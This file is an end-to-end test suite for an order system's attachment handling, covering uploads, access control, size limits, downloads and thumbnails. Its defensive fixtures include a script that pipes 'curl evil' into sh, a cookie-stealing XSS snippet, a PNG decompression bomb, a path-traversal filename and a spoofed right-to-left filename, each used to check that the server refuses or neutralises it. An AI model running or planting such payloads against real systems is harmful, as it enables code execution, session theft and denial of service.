import { mkdtemp, rm } from 'node:fs/promises';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import sharp from 'sharp';
import request from 'supertest';
import { crc32, deflateSync } from 'node:zlib';
import { FILE_STORE, FileStore } from '../../src/files/file-store';
import { FilesCleanup } from '../../src/files/files-cleanup';
import { EventDispatch } from '../../src/notifications/event-dispatch';
import { aDraftOrder, aScenario, OrderScenario, PURPOSE } from '../factories/orders';
import { TestUser, World } from '../factories/world';
import { startTestApp, TestApp } from '../support/test-app';

export const PNG = Buffer.concat([
  Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex'),
  Buffer.alloc(64, 7),
]);
export const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
/** A Windows program's first bytes: the DOS header and a PE signature. */
export const EXE = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.alloc(58),
  Buffer.from([0x40, 0, 0, 0]),
  Buffer.from('PE\0\0'),
  Buffer.alloc(200),
]);
/**
 * A PNG whose header claims 100 000 × 100 000 pixels (40 GB decoded) over a kilobyte of
 * compressed zeros: a decompression bomb that a preview must refuse before decoding.
 */
export function pngBomb(width = 100_000, height = 100_000): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body) >>> 0);
    return Buffer.concat([length, body, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8; // bit depth; colour type 0 (grey), no interlace
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(1024 * 1024))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}
export const HTML = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');

const binary = (res: request.Response, done: (error: Error | null, body: Buffer) => void) => {
  const parts: Buffer[] = [];
  res.on('data', (c: Buffer) => parts.push(c));
  res.on('end', () => done(null, Buffer.concat(parts)));
};

/** Every object the store holds: blobs by hash, and unfinished uploads. */
export async function storedObjects(store: FileStore): Promise<{ blobs: string[]; temps: string[] }> {
  const blobs: string[] = [];
  const temps: string[] = [];
  for await (const page of store.list()) {
    blobs.push(...page.blobs.map((b) => b.key));
    temps.push(...page.temps.map((t) => t.key));
  }
  return { blobs: blobs.sort(), temps };
}

/**
 * The attachment scenarios over real sockets (the app listens on a port), for one store: the
 * local disk, or an S3-compatible server the caller started (`env` names it).
 */
export function attachmentSuite(storeName: string, environment: () => Promise<{ env: Record<string, string>; stop(): Promise<void> }>) {
  describe(`attachments on ${storeName}`, () => {
    let t: TestApp;
    let w: World;
    let s: OrderScenario;
    let base: string;
    let store: FileStore;
    let dataDir: string;
    let stop: () => Promise<void>;
    let outsider: TestUser;
    let manager: TestUser;
    let admin: TestUser;

    beforeAll(async () => {
      dataDir = await mkdtemp(join(tmpdir(), 'files-e2e-'));
      const started = await environment();
      stop = started.stop;
      t = await startTestApp({
        DATA_DIR: dataDir,
        MAX_UPLOAD_MB: '1',
        FILE_ORPHAN_GRACE_MINUTES: '0',
        PUBLIC_URL: 'https://orders.test.example',
        ...started.env,
      });
      await t.app.listen(0, '127.0.0.1');
      base = `http://127.0.0.1:${(t.app.getHttpServer().address() as AddressInfo).port}`;
      store = t.app.get<FileStore>(FILE_STORE);
      w = new World(t);
      s = await aScenario(w);
      const elsewhere = await w.aUnit('core');
      [outsider, manager, admin] = await Promise.all([w.aRequester(elsewhere), w.aManager(s.support), w.anAdmin()]);
    });
    afterAll(async () => {
      await t?.close();
      await stop?.();
      await rm(dataDir, { recursive: true, force: true });
    });

    const as = (user: TestUser) => {
      const auth = (r: request.Test) => r.set('Authorization', `Bearer ${user.token}`);
      return {
        upload: (orderId: string, files: Array<[Buffer, string]>) => {
          let r = auth(request(base).post(`/api/v1/orders/${orderId}/attachments`));
          for (const [bytes, name] of files) r = r.attach('file', bytes, name);
          return r;
        },
        get: (path: string) => auth(request(base).get(path)),
        download: (path: string, range?: string) => {
          const r = auth(request(base).get(path)).buffer(true).parse(binary);
          return range ? r.set('Range', range) : r;
        },
        post: (path: string, body: object) => auth(request(base).post(path)).send(body),
        delete: (path: string) => auth(request(base).delete(path)),
        patch: (path: string, body: object) => auth(request(base).patch(path)).send(body),
      };
    };

    async function submitted(): Promise<{ id: string; version: number }> {
      const draft = await aDraftOrder(w, s);
      const res = await as(s.requester).post(`/api/v1/orders/${draft.id}/submit`, { version: draft.version }).expect(200);
      return res.body;
    }

    it('takes files from the requesting side on a draft and from both sides once submitted, shown to whoever sees the order', async () => {
      const draft = await aDraftOrder(w, s);
      const logo = await as(s.requester)
        .upload(draft.id, [[PNG, '../../logo.png']])
        .expect(201);
      expect(logo.body.items).toHaveLength(1);
      const [file] = logo.body.items;
      expect(Object.keys(file).sort()).toEqual([
        'contentType',
        'id',
        'name',
        'scan',
        'sha256',
        'size',
        'thumbnail',
        'uploadedAt',
        'uploadedBy',
      ]);
      expect(file).toMatchObject({
        name: 'logo.png',
        size: PNG.length,
        contentType: 'image/png',
        uploadedBy: s.requester.id,
        scan: 'not_scanned',
      });
      expect(file.sha256).toMatch(/^[0-9a-f]{64}$/);
      // A draft is the requesting side's own business: the support unit does not see it, nor its files.
      await as(s.deliverer).get(`/api/v1/orders/${draft.id}/attachments`).expect(404);
      await as(s.deliverer)
        .upload(draft.id, [[PDF, 'brief.pdf']])
        .expect(404);

      const order = (await as(s.requester).post(`/api/v1/orders/${draft.id}/submit`, { version: draft.version }).expect(200)).body;
      expect(order.attachments.map((a: { id: string }) => a.id)).toEqual([file.id]);
      const brief = await as(s.deliverer)
        .upload(draft.id, [
          [PDF, 'brief.pdf'],
          [PNG, 'copy of logo.png'],
        ])
        .expect(201);
      expect(brief.body.items.map((a: { name: string }) => a.name)).toEqual(['brief.pdf', 'copy of logo.png']);
      // The same bytes are stored once.
      expect(brief.body.items[1].sha256).toBe(file.sha256);

      for (const reader of [s.requester, s.deliverer, manager, admin]) {
        const list = await as(reader).get(`/api/v1/orders/${draft.id}/attachments`).expect(200);
        expect(list.body.items.map((a: { name: string }) => a.name)).toEqual(['logo.png', 'brief.pdf', 'copy of logo.png']);
        const bytes = await as(reader).download(`/api/v1/orders/${draft.id}/attachments/${file.id}`).expect(200);
        expect(Buffer.compare(bytes.body as Buffer, PNG)).toBe(0);
        expect(bytes.headers['content-type']).toBe('image/png');
      }
      await as(outsider).get(`/api/v1/orders/${draft.id}/attachments`).expect(404);
      await as(outsider).download(`/api/v1/orders/${draft.id}/attachments/${file.id}`).expect(404);
      await as(outsider)
        .upload(draft.id, [[PNG, 'x.png']])
        .expect(404);
      // Managers see the order but act for neither side.
      await as(manager)
        .upload(draft.id, [[PNG, 'x.png']])
        .expect(403);

      // The delivering side's files are told to the requesting side (outbox → notification and a mail with links).
      const [event] = await t.db.query(`SELECT id, payload FROM outbox_events WHERE type = 'attachment.added' AND order_id = $1`, [
        draft.id,
      ]);
      expect(event.payload).toMatchObject({ side: 'deliverer', attachments: [{ name: 'brief.pdf' }, { name: 'copy of logo.png' }] });
      await t.app.get(EventDispatch).dispatchStored(event.id);
      const [mail] = await t.db.query(`SELECT text_body, html_body FROM outbound_mails WHERE event_id = $1`, [event.id]);
      expect(mail.text_body).toContain(`brief.pdf: https://orders.test.example/orders/${draft.id}/attachments/${brief.body.items[0].id}`);
      const [note] = await t.db.query(`SELECT user_id FROM notifications WHERE event_id = $1`, [event.id]);
      expect(note.user_id).toBe(s.requester.id);
      // Nothing was told of the file added to the draft.
      const drafts = await t.db.query(`SELECT count(*)::int AS n FROM outbox_events WHERE type = 'attachment.added' AND order_id = $1`, [
        draft.id,
      ]);
      expect(drafts[0].n).toBe(1);
    });

    it('lets messages, the delivery and change requests refer to files of the same order, and keeps referred files', async () => {
      const order = await submitted();
      const other = await submitted();
      const [logo] = (
        await as(s.requester)
          .upload(order.id, [[PNG, 'logo.png']])
          .expect(201)
      ).body.items;
      const [foreign] = (
        await as(s.requester)
          .upload(other.id, [[PNG, 'other.png']])
          .expect(201)
      ).body.items;
      const [spare] = (
        await as(s.requester)
          .upload(order.id, [[PDF, 'spare.pdf']])
          .expect(201)
      ).body.items;

      const wrong = await as(s.requester)
        .post(`/api/v1/orders/${order.id}/messages`, { kind: 'answer', body: 'Here it is.', attachmentIds: [logo.id, foreign.id] })
        .expect(400);
      expect(wrong.body.errors).toEqual([expect.objectContaining({ pointer: '/attachmentIds/1' })]);
      const notUuid = await as(s.requester)
        .post(`/api/v1/orders/${order.id}/messages`, { kind: 'answer', body: 'x', attachmentIds: ['nope'] })
        .expect(400);
      expect(JSON.stringify(notUuid.body.errors)).toContain('attachmentIds');

      const message = await as(s.requester)
        .post(`/api/v1/orders/${order.id}/messages`, { kind: 'answer', body: 'The logo, as asked.', attachmentIds: [logo.id] })
        .expect(201);
      expect(message.body.attachments.map((a: { id: string }) => a.id)).toEqual([logo.id]);
      const page = await as(s.deliverer).get(`/api/v1/orders/${order.id}/messages`).expect(200);
      expect(page.body.items[0].attachments.map((a: { id: string }) => a.id)).toEqual([logo.id]);

      // A referred file stays; only its uploader removes one that nothing refers to.
      await as(s.requester).delete(`/api/v1/orders/${order.id}/attachments/${logo.id}`).expect(409);
      await as(s.deliverer).delete(`/api/v1/orders/${order.id}/attachments/${spare.id}`).expect(403);
      await as(outsider).delete(`/api/v1/orders/${order.id}/attachments/${spare.id}`).expect(404);
      await as(s.requester).delete(`/api/v1/orders/${order.id}/attachments/${spare.id}`).expect(204);
      await as(s.requester).download(`/api/v1/orders/${order.id}/attachments/${spare.id}`).expect(404);

      let view = (await as(s.deliverer).post(`/api/v1/orders/${order.id}/accept`, { version: message.body.version }).expect(200)).body;
      const change = await as(s.requester)
        .post(`/api/v1/orders/${order.id}/change-requests`, {
          version: view.version,
          reason: 'Use this logo too.',
          purpose: `${PURPOSE} Also on the web.`,
          attachmentIds: [logo.id],
        })
        .expect(201);
      expect(change.body.attachments.map((a: { id: string }) => a.id)).toEqual([logo.id]);
      view = (await as(s.deliverer).get(`/api/v1/orders/${order.id}`).expect(200)).body;
      view = (await as(s.deliverer).post(`/api/v1/orders/${order.id}/start`, { version: view.version }).expect(200)).body;
      for (const item of view.checklist)
        await as(s.deliverer).patch(`/api/v1/orders/${order.id}/checklist/${item.id}`, { done: true }).expect(200);
      view = (await as(s.deliverer).get(`/api/v1/orders/${order.id}`).expect(200)).body;
      const [work] = (
        await as(s.deliverer)
          .upload(order.id, [[PDF, 'flyer-final.pdf']])
          .expect(201)
      ).body.items;
      await as(s.deliverer)
        .post(`/api/v1/orders/${order.id}/deliver`, { version: view.version, deliveryNote: 'Done.', attachmentIds: [foreign.id] })
        .expect(400);
      const delivered = (
        await as(s.deliverer)
          .post(`/api/v1/orders/${order.id}/deliver`, {
            version: view.version,
            deliveryNote: 'The flyer, ready to print.',
            attachmentIds: [work.id],
          })
          .expect(200)
      ).body;
      expect(delivered.deliveryAttachments.map((a: { id: string }) => a.id)).toEqual([work.id]);
      const seen = (await as(s.requester).get(`/api/v1/orders/${order.id}`).expect(200)).body;
      expect(seen.deliveryAttachments.map((a: { name: string }) => a.name)).toEqual(['flyer-final.pdf']);
      expect(seen.messages.at(-1).attachments.map((a: { name: string }) => a.name)).toEqual(['logo.png']);
      expect(seen.changeRequests[0].attachments.map((a: { name: string }) => a.name)).toEqual(['logo.png']);
      expect(seen.attachments.map((a: { name: string }) => a.name)).toEqual(['logo.png', 'flyer-final.pdf']);
      await as(s.deliverer).delete(`/api/v1/orders/${order.id}/attachments/${work.id}`).expect(409);
      const pdf = await as(s.requester).download(`/api/v1/orders/${order.id}/attachments/${work.id}`).expect(200);
      expect(pdf.headers['content-type']).toBe('application/pdf');
      expect(Buffer.compare(pdf.body as Buffer, PDF)).toBe(0);

      // The retrospective lists its own files, in its answer and in the order's view (and on the page).
      await as(s.deliverer)
        .post(`/api/v1/orders/${order.id}/retrospective`, {
          version: seen.version,
          outcome: 'Printed and handed out.',
          purposeAssessment: 'Reached the parents.',
          recommendations: [],
          attachmentIds: [foreign.id],
        })
        .expect(400);
      const retrospective = await as(s.deliverer)
        .post(`/api/v1/orders/${order.id}/retrospective`, {
          version: seen.version,
          outcome: 'Printed and handed out.',
          purposeAssessment: 'Reached the parents.',
          recommendations: [],
          attachmentIds: [work.id],
        })
        .expect(201);
      expect(retrospective.body.attachments.map((a: { id: string }) => a.id)).toEqual([work.id]);
      const closing = (await as(s.requester).get(`/api/v1/orders/${order.id}`).expect(200)).body;
      expect(closing.retrospective.attachments.map((a: { name: string }) => a.name)).toEqual(['flyer-final.pdf']);
      const retroPage = await request(base).get(`/orders/${order.id}`).set('Cookie', `sid=${s.requester.token}`).expect(200);
      const section = retroPage.text.slice(retroPage.text.indexOf('id="retrospective"'));
      expect(section.slice(0, section.indexOf('</section>'))).toContain(`href="/orders/${order.id}/attachments/${work.id}"`);
    });

    it('refuses a file past MAX_UPLOAD_MB with 413 and keeps nothing of it', async () => {
      const order = await submitted();
      const before = await storedObjects(store);
      const big = Buffer.alloc(1024 * 1024 + 1, 0x41);
      const res = await as(s.requester).upload(order.id, [
        [PNG, 'first.png'],
        [big, 'big.txt'],
      ]);
      expect(res.status).toBe(413);
      expect(res.body.errors).toEqual([expect.objectContaining({ pointer: '/file' })]);
      const after = await storedObjects(store);
      expect(after.temps).toEqual([]);
      // The first file's bytes may be stored (a blob without a row, for the cleanup job), but no row was written.
      const rows = await t.db.query('SELECT count(*)::int AS n FROM attachments WHERE order_id = $1', [order.id]);
      expect(rows[0].n).toBe(0);
      expect(after.blobs.filter((b) => !before.blobs.includes(b)).length).toBeLessThanOrEqual(1);
      await t.app.get(FilesCleanup).runOnce();
      const cleaned = await storedObjects(store);
      const referred: Array<{ sha256: string }> = await t.db.query(
        'SELECT sha256 FROM attachments UNION SELECT thumbnail_sha256 FROM attachments WHERE thumbnail_sha256 IS NOT NULL',
      );
      expect(cleaned.blobs).toEqual(referred.map((r) => r.sha256.trim()).sort());
      // Exactly at the limit is fine.
      await as(s.requester)
        .upload(order.id, [[Buffer.alloc(1024 * 1024, 0x41), 'exact.txt']])
        .expect(201);
    });

    it('refuses programs and scripts by their content with 415, a renamed program too', async () => {
      const order = await submitted();
      for (const [bytes, name] of [
        [EXE, 'setup.exe'],
        [EXE, 'report.pdf'],
        [Buffer.from('\x7fELF\x02\x01\x01\0'), 'photo.jpg'],
        [Buffer.from('#!/bin/sh\ncurl evil | sh\n'), 'notes.txt'],
      ] as Array<[Buffer, string]>) {
        const res = await as(s.requester).upload(order.id, [[bytes, name]]);
        expect([name, res.status]).toEqual([name, 415]);
        expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
      }
      expect((await storedObjects(store)).temps).toEqual([]);
      const rows = await t.db.query('SELECT count(*)::int AS n FROM attachments WHERE order_id = $1', [order.id]);
      expect(rows[0].n).toBe(0);
      // Other bodies than multipart stay 415 on the API; a multipart without a file is 400.
      await as(s.requester).post(`/api/v1/orders/${order.id}/attachments`, {}).expect(400);
      await request(base)
        .post(`/api/v1/orders/${order.id}/attachments`)
        .set('Authorization', `Bearer ${s.requester.token}`)
        .set('Content-Type', 'text/plain')
        .send('x')
        .expect(415);
    });

    it('serves an HTML file as a download with nosniff and a sandboxing CSP, and answers Range', async () => {
      const order = await submitted();
      const [page] = (
        await as(s.requester)
          .upload(order.id, [[HTML, 'Ku\u202Egnp.html']])
          .expect(201)
      ).body.items;
      expect(page.name).toBe('Kugnp.html');
      expect(page.contentType).toBe('application/octet-stream');
      const res = await as(s.deliverer).download(`/api/v1/orders/${order.id}/attachments/${page.id}`).expect(200);
      expect(res.headers['content-type']).toBe('application/octet-stream');
      expect(res.headers['content-disposition']).toBe(`attachment; filename="Kugnp.html"; filename*=UTF-8''Kugnp.html`);
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      expect(res.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
      expect(res.headers.etag).toBe(`"${page.sha256}"`);

      const part = await as(s.deliverer).download(`/api/v1/orders/${order.id}/attachments/${page.id}`, 'bytes=2-9').expect(206);
      expect((part.body as Buffer).toString()).toBe(HTML.subarray(2, 10).toString());
      expect(part.headers['content-range']).toBe(`bytes 2-9/${HTML.length}`);
      const tail = await as(s.deliverer).download(`/api/v1/orders/${order.id}/attachments/${page.id}`, 'bytes=-5').expect(206);
      expect((tail.body as Buffer).toString()).toBe(HTML.subarray(-5).toString());
      await as(s.deliverer)
        .download(`/api/v1/orders/${order.id}/attachments/${page.id}`, `bytes=${HTML.length + 10}-`)
        .expect(416);
    });

    it('removes stored bytes that no row refers to, and unfinished uploads, after the grace period', async () => {
      const order = await submitted();
      const [kept] = (
        await as(s.requester)
          .upload(order.id, [[PDF, 'kept.pdf']])
          .expect(201)
      ).body.items;
      const { Readable } = await import('node:stream');
      const orphan = Buffer.from(`orphan ${Date.now()}`);
      const { createHash, randomUUID } = await import('node:crypto');
      const orphanHash = createHash('sha256').update(orphan).digest('hex');
      await store.writeTemp(randomUUID(), Readable.from([Buffer.from('unfinished')]));
      const temp = randomUUID();
      await store.writeTemp(temp, Readable.from([orphan]));
      await store.commit(temp, orphanHash);
      const removed = await t.app.get(FilesCleanup).runOnce();
      expect(removed.temps).toBeGreaterThanOrEqual(1);
      expect(await store.exists(orphanHash)).toBe(false);
      expect(await store.exists(kept.sha256)).toBe(true);
      await as(s.requester).download(`/api/v1/orders/${order.id}/attachments/${kept.id}`).expect(200);
      expect((await storedObjects(store)).temps).toEqual([]);
    });

    it('makes a small preview of a picture on upload, stored by its hash and served like the file, and none of a hostile one', async () => {
      const order = await submitted();
      const logo = await sharp({ create: { width: 640, height: 320, channels: 3, background: '#1d70b8' } })
        .png()
        .toBuffer();
      const res = await as(s.requester)
        .upload(order.id, [
          [logo, 'logo.png'],
          [PDF, 'brief.pdf'],
          [pngBomb(), 'bomb.png'],
          [PNG, 'broken.png'],
        ])
        .expect(201);
      expect(res.body.items.map((a: { contentType: string; thumbnail: boolean }) => [a.contentType, a.thumbnail])).toEqual([
        ['image/png', true],
        ['application/pdf', false],
        ['image/png', false],
        ['image/png', false],
      ]);
      const [picture, brief, bomb] = res.body.items;
      const thumbnail = (a: { id: string }) => `/api/v1/orders/${order.id}/attachments/${a.id}/thumbnail`;
      for (const reader of [s.requester, s.deliverer, manager, admin]) {
        const preview = await as(reader).download(thumbnail(picture)).expect(200);
        expect(preview.headers['content-type']).toBe('image/webp');
        expect(preview.headers['x-content-type-options']).toBe('nosniff');
        const meta = await sharp(preview.body as Buffer).metadata();
        expect([meta.format, meta.width, meta.height]).toEqual(['webp', 160, 80]);
      }
      await as(outsider).download(thumbnail(picture)).expect(404);
      await as(s.requester).download(thumbnail(brief)).expect(404);
      await as(s.requester).download(thumbnail(bomb)).expect(404);
      // The bomb is still a file: it downloads whole, only without a preview.
      expect(
        Buffer.compare((await as(s.deliverer).download(`/api/v1/orders/${order.id}/attachments/${bomb.id}`).expect(200)).body, pngBomb()),
      ).toBe(0);

      // The preview lives in the same store under its own hash, and the cleanup job keeps it.
      const [row] = await t.db.query('SELECT thumbnail_sha256 FROM attachments WHERE id = $1', [picture.id]);
      expect(await store.exists(row.thumbnail_sha256)).toBe(true);
      await t.app.get(FilesCleanup).runOnce();
      expect(await store.exists(row.thumbnail_sha256)).toBe(true);
      const list = await as(s.deliverer).get(`/api/v1/orders/${order.id}/attachments`).expect(200);
      expect(list.body.items.map((a: { thumbnail: boolean }) => a.thumbnail)).toEqual([true, false, false, false]);

      // The order page shows the preview beside the file's name, through its own route (the session's cookie).
      const page = await request(base).get(`/orders/${order.id}`).set('Cookie', `sid=${s.deliverer.token}`).expect(200);
      expect(page.text).toContain(`src="/orders/${order.id}/attachments/${picture.id}/thumbnail"`);
      expect(page.text).not.toContain(`/attachments/${bomb.id}/thumbnail`);
      const img = await request(base)
        .get(`/orders/${order.id}/attachments/${picture.id}/thumbnail`)
        .set('Cookie', `sid=${s.deliverer.token}`)
        .buffer(true)
        .parse(binary)
        .expect(200);
      expect(img.headers['content-type']).toBe('image/webp');
      await request(base).get(`/orders/${order.id}/attachments/${picture.id}/thumbnail`).set('Cookie', `sid=${outsider.token}`).expect(404);
    });

    it('adds nothing once the order is cancelled', async () => {
      const order = await submitted();
      await as(s.requester).post(`/api/v1/orders/${order.id}/cancel`, { version: order.version, reason: 'Not needed.' }).expect(200);
      await as(s.requester)
        .upload(order.id, [[PNG, 'late.png']])
        .expect(409);
      await as(s.deliverer)
        .upload(order.id, [[PNG, 'late.png']])
        .expect(409);
    });
  });
}
